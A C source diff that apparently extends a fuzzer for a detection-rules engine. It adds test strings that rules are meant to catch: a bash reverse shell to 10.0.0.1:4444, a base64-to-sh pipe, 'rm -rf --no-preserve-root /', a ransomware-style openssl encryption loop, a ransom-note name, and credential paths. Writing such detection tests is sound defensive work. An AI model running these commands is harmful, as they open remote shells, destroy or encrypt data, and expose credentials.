@@ -64,8 +64,18 @@ static void pool_add(const char *v)
 
 static const char *pick(void)
 {
-	static const char *const plain[] = { "/usr/bin/bash", "/tmp/x", "-c", "/etc/passwd",
-					     "sshd", "root", "/home/alice/.ssh/id_rsa" };
+	/* plain words, and strings some rules' regular expressions match */
+	static const char *const plain[] = {
+		"/usr/bin/bash", "/tmp/x", "-c", "/etc/passwd", "sshd", "root",
+		"/home/alice/.ssh/id_rsa", "abcdefghijklmnop2345.onion",
+		"systemctl stop mysql nginx redis postgresql", "HOW_TO_DECRYPT_FILES.txt",
+		"/var/tmp/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
+		"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
+		"for f in *; do openssl enc -aes-256-cbc -in $f -out $f.enc; done",
+		"/inet/tcp/0/127.0.0.1/4444", "/memfd:x (deleted)", "[kworker/0:1]",
+		"rm -rf --no-preserve-root /", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+		"python3 -c 'import socket,subprocess,os'", "echo aGVsbG8= | base64 -d | sh",
+	};
 
 	if (!npool || rnd() % 4 == 0)
 		return plain[rnd() % (sizeof(plain) / sizeof(plain[0]))];
